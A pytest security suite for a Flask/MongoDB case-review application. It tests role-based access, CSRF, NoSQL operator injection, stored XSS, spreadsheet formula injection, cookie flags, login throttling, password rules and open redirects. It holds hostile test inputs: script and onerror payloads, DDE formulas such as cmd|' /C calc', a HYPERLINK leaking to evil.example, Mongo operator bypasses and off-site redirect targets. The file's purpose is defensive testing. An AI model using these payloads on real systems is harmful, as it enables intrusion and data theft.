"""Security: every URL behind a login, the role table, CSRF, operator injection, stored XSS,
formula injection in exports, cookie flags, login throttling and the password policy.

The expected statuses are written out here, from the roles in DESIGN.md; nothing is derived
from the application's own permission code, so a change there shows up as a failure here.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from urllib.parse import urljoin

import pytest
import time_machine
from bson import ObjectId
from mongoengine import EmailField, StringField
from openpyxl import load_workbook

from config import settings
from documents.writers import render
from lif import db as lif_db
from lif import policy
from lif.actors import SYSTEM
from lif.errors import InvalidInput
from lif.models import (
    Action,
    ActionPlan,
    Activity,
    Finding,
    Person,
    Referral,
    Review,
)
from lif.models.base import Content
from lif.services import attachments, content, plans, referrals, searching, users

from .. import factories as f
from ..conftest import PASSWORD, AuthActions, make_user

ROLES_AGENCY = {"admin": None, "lead": "police", "pdc": None, "qaec": None, "ciec": "police",
                "chair": None, "training": None, "viewer": None}
LOGIN_PAGE = "/login"


# --- the world every sweep runs over ------------------------------------------------------------


@pytest.fixture
def world(clean_db):
    """One item of each kind, in states a lead of the police may and may not see."""
    review = f.make_review(title="Child W", findings=[Finding(text="Finding one.")])
    audit = f.make_audit()
    plan = f.make_plan(title="Plan W", review=review)
    police = f.make_action(plan=plan, agency="police", title="Police action")
    health = f.make_action(plan=plan, agency="health", title="Health action")
    referral = f.make_referral()
    request = f.make_information_request(referral=referral)
    pdc_review = f.make_pdc_review(plan=plan)
    meeting = f.make_meeting()
    attachment = attachments.add(review, "note.txt", b"hello", "text/plain", "hello", SYSTEM)
    return {"review": review, "audit": audit, "action_plan": plan, "action": police,
            "other_action": health, "referral": referral, "information_request": request,
            "pdc_review": pdc_review, "meeting": meeting, "attachment": attachment}


API_ITEMS = {"plans": "action_plan", "actions": "action", "reviews": "review",
             "audits": "audit", "referrals": "referral"}


def _value(rule, name: str, world) -> str:
    path = rule.rule
    if name == "item_id":
        if path.startswith("/api/"):
            return str(world[API_ITEMS[path.split("/")[3]]].pk)
        return str(world["review"].pk)
    if name == "kind":
        return "csv" if "referral_register" in path else ("brief" if "<item_id>" in path
                                                        else "index")
    fixed = {
        "export_type": "csv",
        "audit_id": str(world["audit"].pk),
        "attachment_id": str(world["attachment"].pk),
        "assignment_id": str(ObjectId()),
        "tool_id": str(ObjectId()),
        "uid": "abc123",
        "rule": "random",
        "token": "not-a-real-token",
        "filename": "admin/js/filters.js" if path.startswith("/admin/static")
        else "lif.css",
    }
    return fixed[name]


def url_of(rule, world) -> str:
    """The rule's path with a plausible value for each of its variables."""
    return re.sub(r"<(?:[^:<>]+:)?([^<>]+)>", lambda m: _value(rule, m.group(1), world),
                  rule.rule)


def rules(app):
    return sorted(app.url_map.iter_rules(), key=lambda r: r.rule)


def methods_of(rule) -> list[str]:
    return sorted(rule.methods - {"HEAD", "OPTIONS"})


def csrf_token(client) -> str:
    return AuthActions(client).csrf(LOGIN_PAGE)


def request(client, method: str, url: str, token: str | None = None, data=None):
    if method == "GET":
        return client.get(url)
    body = dict(data or {})
    if token:
        body["csrf_token"] = token
    return client.open(url, method=method, data=body)


# --- (a) every URL, signed out -------------------------------------------------------------------

# What answers without signing in, and how (DESIGN.md: login, health, the public page).
PUBLIC = {
    ("/login", "GET"): 200,
    ("/login", "POST"): 400,           # no credentials: the form is refused, nobody signed in
    ("/healthz", "GET"): 200,
    ("/forgot-password", "GET"): 200,   # says to ask an administrator (no SMTP in tests)
    ("/forgot-password", "POST"): 400,
    ("/reset-password/<token>", "GET"): 404,   # a bad link is "nothing here"
    ("/reset-password/<token>", "POST"): 404,
    ("/published", "GET"): 200,
    ("/published/file/<attachment_id>", "GET"): 404,   # not published
    ("/static/<path:filename>", "GET"): 200,
    ("/admin/static/<path:filename>", "GET"): 200,
    ("/calendar/<token>.ics", "GET"): 404,             # a bad token is "nothing here"
    ("/api/v1/openapi.json", "GET"): 200,             # the API's description, no data
}


def test_every_url_rule_is_closed_to_the_signed_out(app, client, world):
    token = csrf_token(client)  # a valid token: what refuses is the login check, not CSRF
    seen = []
    for rule in rules(app):
        for method in methods_of(rule):
            url = url_of(rule, world)
            response = request(client, method, url, token)
            seen.append((rule.rule, method))
            expected = PUBLIC.get((rule.rule, method))
            where = f"{method} {url}"
            if expected is not None:
                assert response.status_code == expected, where
            elif rule.rule.startswith("/api/"):
                assert response.status_code == 401, where
                assert response.is_json and "Bearer" in response.headers["WWW-Authenticate"]
            else:
                assert response.status_code == 302, (where, response.status_code)
                assert response.headers["Location"].startswith(LOGIN_PAGE), where
    assert len(seen) > 200  # the sweep really went over the whole map
    # Every public exception was met: the table has no stale entries.
    assert set(PUBLIC) <= set(seen)


def test_public_pages_reveal_nothing_unpublished(client, world):
    page = client.get("/published").get_data(as_text=True)
    assert "Child W" not in page and "Plan W" not in page
    assert client.get(f"/published/file/{world['attachment'].pk}").status_code == 404
    assert client.get("/published/file/not-an-id").status_code == 404
    health = client.get("/healthz").get_json()
    assert set(health) == {"status", "database", "writable", "version"}


# --- (a) every list and index page, by role --------------------------------------------------

_ALL = {"admin": 200, "lead": 200, "pdc": 200, "qaec": 200, "ciec": 200, "chair": 200,
        "training": 200, "viewer": 200}


def _only(*roles: str, other: int = 403) -> dict[str, int]:
    return {role: 200 if role in roles else other for role in ROLES_AGENCY}


# Who opens what: reviews and plans are read by everyone; audits by the committees that run or
# scrutinise them and the leads that take part; the CIEC register and referrals (personal
# data) by the CIEC, the Chair and administrators; committee papers by committee members;
# administration by administrators only; every signed-in person has a dashboard, search,
# messages, saved searches and preferences.
EXPECTED = {
    "/admin/": _ALL,
    "/admin/review/": _ALL,
    "/admin/action_plan/": _ALL,
    "/admin/action/": _ALL,
    "/admin/audit/": _only("admin", "lead", "pdc", "qaec", "chair", "training"),
    # Any member of staff may refer a case and follow their own referrals.
    "/admin/referral/": _only("admin", "lead", "pdc", "qaec", "ciec", "chair", "training"),
    "/admin/information_request/": _only("admin", "lead", "pdc", "qaec", "ciec", "chair",
                                         "training"),
    "/admin/pdc_review/": _only("admin", "pdc", "qaec", "ciec", "chair", "training"),
    "/admin/meeting/": _only("admin", "pdc", "qaec", "ciec", "chair", "training"),
    "/admin/users/": _only("admin"),
    "/admin/agencies/": _only("admin"),
    "/admin/audit_trail/": _only("admin"),
    "/admin/trash/": _only("admin"),
    "/admin/messages/": _ALL,
    # Anyone may be an action's named lead: every person has "My actions".
    "/admin/my_actions/": _ALL,
    # Anyone may be named lead auditor for their agency: the workspace's front page is open
    # to all, and lists audits only to the committees (checked below).
    "/admin/audit_work/": _ALL,
    "/admin/audit_work/{audit}/": _only("admin", "lead", "pdc", "qaec", "chair", "training"),
    "/admin/documents/": _ALL,
    "/admin/referral_register/": _only("admin", "lead", "pdc", "qaec", "ciec", "chair",
                                       "training"),
    "/admin/search/?q=child": _ALL,
    "/admin/saved/": _ALL,
    "/admin/preferences/": _ALL,
    # Making a plan from a review's findings: those who write plans (a lead for their agency).
    # QAEC too: it turns findings (its audits') into plans.
    "/admin/plan_builder/?source=review&id={review}": _only("admin", "lead", "qaec",
                                                             "training"),
    # Importing actions into a draft multi-agency plan: those who may add actions to it (a
    # lead, for their agency's rows, as through the action form).
    "/admin/import_actions/?plan={action_plan}": _only("admin", "lead", "qaec", "training"),
}


@pytest.mark.parametrize("role", list(ROLES_AGENCY))
def test_each_role_gets_exactly_its_pages(client, world, role):
    user = make_user(role, ROLES_AGENCY[role])
    auth = AuthActions(client)
    assert auth.login(user.email).status_code == 302
    ids = {key: str(item.pk) for key, item in world.items()}
    wrong = []
    for page, by_role in EXPECTED.items():
        response = client.get(page.format(**ids))
        if response.status_code != by_role[role]:
            wrong.append((page, response.status_code, by_role[role]))
        assert response.status_code != 500, page
    assert not wrong, f"{role}: (page, got, expected) {wrong}"


@pytest.mark.parametrize("role", ["ciec", "viewer"])
def test_the_audit_workspace_front_page_lists_no_audit_outside_the_committees(client, world,
                                                                               role):
    AuthActions(client).login(make_user(role, ROLES_AGENCY[role]).email)
    page = client.get("/admin/audit_work/").get_data(as_text=True)
    assert world["audit"].title not in page and str(world["audit"].pk) not in page


def test_a_lead_sees_only_their_agency_s_actions_everywhere(client, world):
    lead = make_user("lead", "police")
    AuthActions(client).login(lead.email)
    police, health = world["action"], world["other_action"]
    listing = client.get("/admin/action/").get_data(as_text=True)
    assert str(police.pk) in listing and str(health.pk) not in listing
    assert client.get(f"/admin/action/details/?id={health.pk}").status_code in (302, 403, 404)
    assert client.get(f"/admin/action/edit/?id={health.pk}").status_code in (302, 403, 404)
    csv_text = client.get("/admin/action/export/csv/").get_data(as_text=True)
    assert "Police action" in csv_text and "Health action" not in csv_text


def test_files_are_served_only_to_those_who_may_see_their_item(client, world):
    secret = attachments.add(world["referral"], "family.txt", b"personal details",
                             "text/plain", "", SYSTEM)
    auth = AuthActions(client)
    for role in ("lead", "viewer", "qaec", "pdc", "training"):
        auth.login(make_user(role, ROLES_AGENCY[role]).email)
        assert client.get(f"/admin/file/{secret.pk}").status_code in (403, 404), role
        auth.logout()
    auth.login(make_user("chair").email)
    assert client.get(f"/admin/file/{secret.pk}").data == b"personal details"
    assert client.get(f"/published/file/{secret.pk}").status_code == 404


# --- (b) CSRF: every POST of the admin, signed in, without a token -----------------------------


def _form_for(rule, world) -> dict:
    """Plausible form data, so a refusal is CSRF's and not an empty form's."""
    return {"id": str(world["review"].pk), "title": "CSRF was here", "text": "CSRF was here",
            "transition": "submit", "comment": "x", "type": "review", "name": "x",
            "progress": "CSRF was here", "q": "x", "email": "csrf@example.org",
            "password": PASSWORD, "number": "1", "rowid": str(world["review"].pk),
            "action": "delete", "url": "/admin/review/"}


def document_counts() -> dict[str, int]:
    database = lif_db.database()
    return {name: database[name].count_documents({})
            for name in database.list_collection_names() if not name.startswith("system.")}


def test_every_post_without_a_csrf_token_is_refused_and_stores_nothing(app, client, world):
    AuthActions(client).login()
    searching.drain()
    before = document_counts()
    posted = 0
    for rule in rules(app):
        for method in methods_of(rule):
            if method == "GET" or rule.rule.startswith("/api/"):
                continue
            url = url_of(rule, world)
            for form in (_form_for(rule, world), {**_form_for(rule, world),
                                                  "csrf_token": "forged-token"}):
                response = client.post(url, data=form)
                assert response.status_code == 400, (url, response.status_code)
                assert "did not come from LIF" in response.get_data(as_text=True), url
                posted += 1
    assert posted > 60
    assert document_counts() == before
    # Still signed in, and with the token the same session can act (the refusal was CSRF's).
    assert client.get("/admin/").status_code == 200


def test_a_token_from_another_session_is_refused(app, client, world):
    other = app.test_client()
    foreign = AuthActions(other).csrf(LOGIN_PAGE)
    AuthActions(client).login()
    before = Review.objects.count()
    response = client.post("/admin/review/new/", data={
        "csrf_token": foreign, "title": "Forged", "review_type": "scr"})
    assert response.status_code == 400
    assert Review.objects.count() == before


def test_the_api_never_accepts_the_session_cookie(client, world):
    """The API is exempt from CSRF because a browser's cookie is not a credential there."""
    AuthActions(client).login()
    action = world["action"]
    response = client.post(f"/api/v1/actions/{action.pk}/progress", json={"text": "via cookie"})
    assert response.status_code == 401
    assert Action.objects.get(pk=action.pk).progress == []


# --- (c) operator injection ---------------------------------------------------------------------


def _ids_listed(html: str, type_key: str) -> set[str]:
    return set(re.findall(rf"/admin/{type_key}/details/\?id=([0-9a-f]{{24}})", html))


INJECTED_ARGS = [
    "flt0_agency_equals[$ne]=x",
    "flt0_agency_equals=%7B%22%24ne%22%3A%20null%7D",
    "flt0_agency_equals[$gt]=",
    "flt1_title_contains=.*",
    "flt1_title_contains[$regex]=.*",
    "search=%7B%22%24ne%22%3Anull%7D",
    "search[$ne]=x",
    "search=.*",
    "search=%5C",
    "sort[$ne]=1",
    "page[$gt]=0",
    "page_size=100000",
    "id[$ne]=x",
]


def test_operator_injection_in_admin_list_filters_reveals_nothing(client, world):
    lead = make_user("lead", "police")
    AuthActions(client).login(lead.email)
    baseline = _ids_listed(client.get("/admin/action/").get_data(as_text=True), "action")
    assert baseline == {str(world["action"].pk)}
    for args in INJECTED_ARGS:
        response = client.get(f"/admin/action/?{args}")
        assert response.status_code in (200, 302, 400), (args, response.status_code)
        shown = _ids_listed(response.get_data(as_text=True), "action")
        assert shown <= baseline, args
        csv_export = client.get(f"/admin/action/export/csv/?{args}")
        assert csv_export.status_code in (200, 302, 400), args
        assert "Health action" not in csv_export.get_data(as_text=True), args
    for args in ("id[$ne]=x", "id=%7B%22%24ne%22%3Anull%7D", "id=000000000000000000000000"):
        response = client.get(f"/admin/action/details/?{args}")
        assert response.status_code in (302, 400, 403, 404), args
        assert "Health action" not in response.get_data(as_text=True)


def _api_headers(user) -> dict:
    return {"Authorization": f"Bearer {users.create_token(user.email, 'test')}"}


API_LISTS = {
    "plans": ("kind", "agency", "state", "source", "q"),
    "actions": ("agency", "state", "status", "plan", "rag", "overdue", "due_before",
                "due_after", "q"),
    "reviews": ("review_type", "state", "agency", "q"),
    "audits": ("audit_type", "state", "agency", "q"),
}
OPERATOR_VALUES = ['{"$ne": null}', '{"$gt": ""}', "[$ne]", ".*", "$where", "\\", "^"]


def test_operator_injection_in_every_api_parameter_is_400_or_harmless(client, world):
    lead = make_user("lead", "police")
    headers = _api_headers(lead)
    for segment, names in API_LISTS.items():
        baseline_response = client.get(f"/api/v1/{segment}", headers=headers)
        assert baseline_response.status_code == 200, segment
        baseline = {item["id"] for item in baseline_response.get_json()["items"]}
        for name in (*names, "page", "per_page"):
            queries = [f"{name}[$ne]=x", f"{name}[$gt]=", *(
                (name, value) for value in OPERATOR_VALUES)]
            for query in queries:
                if isinstance(query, tuple):
                    response = client.get(f"/api/v1/{segment}", headers=headers,
                                          query_string={query[0]: query[1]})
                else:
                    response = client.get(f"/api/v1/{segment}?{query}", headers=headers)
                where = (segment, query)
                assert response.status_code in (200, 400), (where, response.status_code)
                if response.status_code == 200:
                    shown = {item["id"] for item in response.get_json()["items"]}
                    assert shown <= baseline, where
    # One item by an injected id: never someone else's action.
    for item_id in ('{"$ne": null}', "[$ne]", str(world["other_action"].pk)):
        response = client.get(f"/api/v1/actions/{item_id}", headers=headers)
        assert response.status_code in (400, 403, 404), item_id


def test_operator_values_in_every_api_body_field_are_refused(client, world):
    lead = make_user("lead", "police")
    headers = _api_headers(lead)
    action = world["action"]
    bodies = {
        ("PATCH", f"/api/v1/actions/{action.pk}"): {
            "version": action.version, "status": "in_progress", "comment": "c", "title": "t",
            "description": "d", "lead_name": "n", "lead_email": "a@b.org",
            "due_date": "2030-01-01"},
        ("POST", f"/api/v1/actions/{action.pk}/progress"): {"text": "t"},
        ("POST", f"/api/v1/actions/{action.pk}/evidence"): {"description": "d", "measure": "m"},
    }
    for (method, url), body in bodies.items():
        for field in body:
            for hostile in ({"$ne": None}, {"$gt": ""}, ["$ne"], {"$set": {"agency": "health"}}):
                sent = {**body, field: hostile}
                response = client.open(url, method=method, json=sent, headers=headers)
                assert response.status_code == 400, (url, field, hostile, response.status_code)
        # Operators as the body's own keys.
        response = client.open(url, method=method, json={"$set": {"agency": "health"}},
                               headers=headers)
        assert response.status_code == 400, url
    fresh = Action.objects.get(pk=action.pk)
    assert fresh.version == action.version and fresh.agency == "police"
    assert fresh.progress == [] and fresh.evidence == []


def test_operator_injection_in_search_and_login_is_harmless(client, world):
    lead = make_user("lead", "police")
    headers = _api_headers(lead)
    for query in ('{"$ne": null}', "q[$ne]=x", "$where", "*", "title:*", "(", '"', "\\",
                  "principals:role\\:admin", "principals:*"):
        response = client.get("/api/v1/search", headers=headers, query_string={"q": query})
        assert response.status_code in (200, 400), query
        if response.status_code == 200:
            titles = {item["title"] for item in response.get_json()["items"]}
            assert not titles & {"Health action", "Referral T", "RFI police"}, query
    response = client.get("/api/v1/search?q[$ne]=x", headers=headers)
    assert response.status_code == 400
    AuthActions(client).login(lead.email)
    for query in ("q[$ne]=x", "q=%7B%22%24ne%22%3Anull%7D", "q=principals:*", "q=*:*",
                  "type[$ne]=x&q=action"):
        response = client.get(f"/admin/search/?{query}")
        assert response.status_code == 200, query
        page = response.get_data(as_text=True)
        assert "Health action" not in page and "Referral T" not in page, query
    AuthActions(client).logout()
    for email in ('{"$ne": null}', "admin@test.lif' || '1'=='1", ".*"):
        token = csrf_token(client)
        response = client.post("/login", data={"email": email, "password": PASSWORD,
                                                "csrf_token": token})
        assert response.status_code in (400, 401), email
    token = csrf_token(client)
    response = client.post("/login", data={"email[$ne]": "x", "password[$ne]": "x",
                                            "csrf_token": token})
    assert response.status_code == 400
    assert client.get("/admin/").status_code == 302  # nobody signed in


# --- (d) stored XSS, and formula injection in exports -----------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
RAW = re.compile(r"<script>alert\(1\)</script>|<img src=x onerror=alert\(1\)>")
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NOT_FREE_TEXT = {"agency", "agencies", "finding_uid", "owner", "lead_email", "trashed_by"}


def hostile(tag: str) -> str:
    return f"{tag} {SCRIPT} {IMG}"


def free_text(model, tag: str) -> dict:
    """Every plain text field of ``model`` (no choices, ids or emails), holding the payload."""
    return {
        name: hostile(f"{tag}.{name}")[: field.max_length or None]
        for name, field in model._fields.items()
        if type(field) is StringField and not field.choices and name not in NOT_FREE_TEXT
        and name not in Content.SYSTEM_FIELDS and not isinstance(field, EmailField)
    }


@pytest.fixture
def stored_xss(clean_db):
    """A review, a plan, an action (progress, evidence), a referral: payloads everywhere."""
    review = content.create(Review, {
        **free_text(Review, "review"), "review_type": "scr",
        "findings": [Finding(heading=hostile("finding.heading"), text=hostile("finding.text"))],
        "activities": [Activity(text=hostile("activity"))],
    }, SYSTEM)
    plan = content.create(ActionPlan, {
        **free_text(ActionPlan, "plan"), "kind": "multi_agency", "source_kind": "review",
        "review": review, "owner": hostile("plan.owner")}, SYSTEM)
    action = content.create(Action, {
        **free_text(Action, "action"), "plan": plan, "lead_email": "lead@example.org",
        "agency": "police", "due_date": dt.date.today() + dt.timedelta(days=10)}, SYSTEM)
    plans.add_progress(action, hostile("progress"), SYSTEM)
    plans.add_evidence(action, hostile("evidence"), hostile("measure"), SYSTEM)
    # The recommendation and the Chair's decision, their rationales and the reviewers are
    # recorded by their steps, by the CIEC and the Chair (nothing else sets them).
    text = free_text(Referral, "referral")
    recorded = {name: text.pop(name) for name in policy.recorded_fields("referral")
                if name in text}
    referral = content.create(Referral, {
        **text, "agency": "police",
        "child": Person(name=hostile("child.name"), role=hostile("child.role")),
        "significant_people": [Person(name=hostile("person.name"), role="mother")]}, SYSTEM)
    referrals.recommend(f.in_state(referral, "accepted"), "scr",
                        recorded["recommendation_rationale"], make_user("ciec_chair"))
    referral = referrals.decide(referral, "affirmed", "scr", recorded["decision_rationale"],
                                make_user("chair"), reviewers=[hostile("reviewer")])
    attachments.add(review, hostile("file") + ".txt", b"text", "text/plain", "", SYSTEM)
    users.create_user("hostile.name@example.org", PASSWORD, ["viewer"],
                      name=hostile("user.name")[:200])
    for formula in FORMULAS:
        f.make_action(plan=plan, title=formula, lead_name=formula, description=formula,
                      summary=formula)
    searching.drain()
    return {"review": review, "action_plan": plan, "action": action, "referral": referral}


def assert_escaped(page: str, where: str) -> None:
    found = RAW.search(page)
    if found is not None:
        context = page[max(0, found.start() - 120):found.end() + 40]
        raise AssertionError(f"raw payload on {where}: …{context}…")


def test_stored_payloads_come_out_escaped_on_every_page(client, stored_xss):
    auth = AuthActions(client)
    # An anonymous person can put text in the audit trail too: the email of a failed login.
    token = csrf_token(client)
    client.post("/login", data={"email": hostile("login"), "password": "x" * 12,
                                "csrf_token": token})
    auth.login()
    ids = {key: item.pk for key, item in stored_xss.items()}
    pages = ["/admin/", "/admin/review/", "/admin/action/", "/admin/action_plan/",
             "/admin/referral/", "/admin/audit_trail/", "/admin/users/",
             "/admin/referral_register/", "/admin/messages/", "/admin/my_actions/?all=1",
             f"/admin/plan_builder/?source=review&id={ids['review']}",
             f"/admin/import_actions/?plan={ids['action_plan']}",
             "/admin/search/?q=alert", "/admin/search/?q=script+img",
             f"/admin/search/?q={SCRIPT}", f"/admin/review/?search={SCRIPT}",
             f"/admin/action/?flt0_agency_equals={IMG}"]
    for key, item_id in ids.items():
        pages += [f"/admin/{key}/details/?id={item_id}", f"/admin/{key}/edit/?id={item_id}",
                  f"/admin/{key}/diff/?id={item_id}&a=1&b={stored_xss[key].version}"]
    escaped_on = []
    for page in pages:
        response = client.get(page, follow_redirects=True)
        assert response.status_code == 200, page
        html = response.get_data(as_text=True)
        assert_escaped(html, page)
        if ESCAPED_SCRIPT in html:
            escaped_on.append(page)
    # The payloads were really shown (escaped), not just absent.
    for key, item_id in ids.items():
        assert f"/admin/{key}/details/?id={item_id}" in escaped_on, key
    assert "/admin/search/?q=alert" in escaped_on and "/admin/audit_trail/" in escaped_on
    # A lead reads their actions too.
    auth.logout()
    auth.login(make_user("lead", "police").email)
    assert_escaped(client.get("/admin/my_actions/").get_data(as_text=True), "my actions (lead)")


def _csv_cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_exports_neither_run_formulas_nor_serve_html(client, stored_xss):
    AuthActions(client).login()
    csv_urls = ["/admin/action/export/csv/", "/admin/action_plan/export/csv/",
                "/admin/review/export/csv/", "/admin/referral/export/csv/",
                "/admin/audit_trail/export/csv/", "/admin/referral_register/export/csv"]
    # Someone signed out typed a formula as their email: it is in the audit trail now.
    AuthActions(client).logout()
    client.post("/login", data={"email": FORMULAS[0], "password": "x" * 12,
                                "csrf_token": csrf_token(client)})
    AuthActions(client).login()
    for url in csv_urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.mimetype == "text/csv", url
        assert response.headers["Content-Disposition"].startswith("attachment"), url
        cells = _csv_cells(response.get_data(as_text=True))
        risky = [c for c in cells if c.startswith(FORMULA_START)]
        assert not risky, (url, risky[:3])
        if "action/" in url:
            assert "'" + FORMULAS[0] in cells, url
    for url in ("/admin/action/export/xlsx/", "/admin/action_plan/export/xlsx/",
                "/admin/review/export/xlsx/", "/admin/referral_register/export/xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _xlsx_cells(response.data)
        assert not [c.value for c in cells if c.data_type == "f"], url
        risky = [c.value for c in cells if isinstance(c.value, str)
                 and c.value.startswith(FORMULA_START)]
        assert not risky, (url, risky[:3])


@pytest.mark.parametrize(("kind", "key"), [("brief", "review"), ("plan", "action_plan"),
                                           ("cigscr1", "referral"), ("cigsum1", "referral")])
def test_word_exports_hold_the_payload_as_text(stored_xss, kind, key):
    admin = users.find_by_email("admin@test.lif")
    _, data = render(kind, stored_xss[key], admin)
    with zipfile.ZipFile(io.BytesIO(data)) as docx_zip:
        xml = docx_zip.read("word/document.xml").decode()
    assert_escaped(xml, kind)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in xml, kind


# --- (e) cookies, throttling, passwords --------------------------------------------------------


def _session_cookie(response) -> str:
    cookies = [h for h in response.headers.getlist("Set-Cookie") if h.startswith("session=")]
    assert cookies, response.headers
    return cookies[-1]


def test_the_session_cookie_is_httponly_and_samesite_lax(client):
    cookie = _session_cookie(AuthActions(client).login())
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # LIF_SECURE_COOKIES unset in development and tests
    assert not any(h.startswith("remember_token=")
                   for h in client.get("/admin/").headers.getlist("Set-Cookie"))


def test_secure_cookies_when_asked_and_in_production(app, client, monkeypatch):
    monkeypatch.setenv("LIF_SECURE_COOKIES", "1")
    assert settings.TestingConfig().SESSION_COOKIE_SECURE is True
    monkeypatch.delenv("LIF_SECURE_COOKIES")
    assert settings.ProductionConfig().SESSION_COOKIE_SECURE is True
    monkeypatch.setitem(app.config, "SESSION_COOKIE_SECURE", True)
    secure = app.test_client()
    token = AuthActions(secure).csrf(LOGIN_PAGE)
    response = secure.post("/login", base_url="https://localhost", data={
        "email": "admin@test.lif", "password": PASSWORD, "csrf_token": token})
    cookie = _session_cookie(response)
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie


def _login_from(client, address: str, email: str, password: str):
    token = AuthActions(client).csrf(LOGIN_PAGE)
    return client.post("/login", data={"email": email, "password": password,
                                       "csrf_token": token},
                       environ_base={"REMOTE_ADDR": address})


def test_login_is_throttled_per_account(app, client):
    limit = app.config["LIF_LOGIN_MAX_FAILURES"]
    for _ in range(limit):
        assert _login_from(client, "10.0.0.1", "admin@test.lif", "wrong password!").status_code \
            == 401
    # Locked: the right password is refused too, from any address, with no hint which.
    for address in ("10.0.0.1", "10.0.0.2"):
        refused = _login_from(client, address, "admin@test.lif", PASSWORD)
        assert refused.status_code == 401
        assert "Too many failed attempts" in refused.get_data(as_text=True)
    later = dt.datetime.now(dt.UTC) + dt.timedelta(minutes=app.config["LIF_LOGIN_LOCK_MINUTES"]
                                                   + 1)
    with time_machine.travel(later, tick=False):
        assert _login_from(client, "10.0.0.3", "admin@test.lif", PASSWORD).status_code == 302


def test_login_is_throttled_per_address(app, client):
    viewer = make_user("viewer")
    limit = app.config["LIF_LOGIN_MAX_FAILURES"]
    for n in range(limit):  # a password spray: one try each at many accounts
        _login_from(client, "10.9.9.9", f"someone{n}@example.org", "Summer2026!!")
    refused = _login_from(client, "10.9.9.9", viewer.email, PASSWORD)
    assert refused.status_code == 401
    assert "Too many failed attempts" in refused.get_data(as_text=True)
    assert _login_from(client, "10.9.9.10", viewer.email, PASSWORD).status_code == 302


@pytest.mark.parametrize("password", [
    "short", "elevenchars",                      # too short (NCSC: length first)
    "aaaaaaaaaaaaaaaa", "abababababababab",      # repetitive
    "policy.person-2026",                         # the email's name
    "password1234", "Password1234!", "passw0rd2026", "P@ssword12345",  # common + digits
    "qwertyuiop12", "123456789012", "abcdefghijkl", "1q2w3e4r5t6y",     # keyboard, runs
    "letmein123456", "welcome12345", "liverpool2026", "safeguarding1",  # common words
])
def test_short_or_guessable_passwords_are_refused(clean_db, password):
    with pytest.raises(InvalidInput) as refused:
        users.create_user("policy.person@example.org", password, ["viewer"])
    assert refused.value.errors.get("password")
    assert users.find_by_email("policy.person@example.org") is None


@pytest.mark.parametrize("password", ["correct horse battery staple", "tulip-granite-ferry-47",
                                      "My cat sleeps on the Aga!"])
def test_long_unusual_passwords_are_accepted(clean_db, password):
    user, _ = users.create_user("ok.person@example.org", password, ["viewer"])
    assert user.email == "ok.person@example.org"


def test_a_weak_password_is_refused_by_the_admin_form_too(client):
    AuthActions(client).login()
    token = AuthActions(client).csrf("/admin/users/new/")
    response = client.post("/admin/users/new/", data={
        "csrf_token": token, "email": "weak@example.org", "name": "Weak", "roles": "viewer",
        "password": "password1234", "active": "y"}, follow_redirects=True)
    assert response.status_code == 200
    assert users.find_by_email("weak@example.org") is None


@pytest.mark.parametrize("target", ["//evil.example/", "/\\evil.example/", "/\\/evil.example",
                                    "https://evil.example/", "/%5Cevil.example", "\\\\evil.example",
                                    "/\t/evil.example", "javascript:alert(1)"])
def test_login_never_redirects_off_site(client, target):
    token = csrf_token(client)
    response = client.post("/login", query_string={"next": target}, data={
        "email": "admin@test.lif", "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 302
    location = response.headers["Location"]
    # What a browser makes of it: backslashes are slashes, tabs and newlines vanish.
    seen = re.sub(r"[\t\r\n]", "", location.replace("\\", "/"))
    assert urljoin("http://localhost/login", seen).startswith("http://localhost/"), location
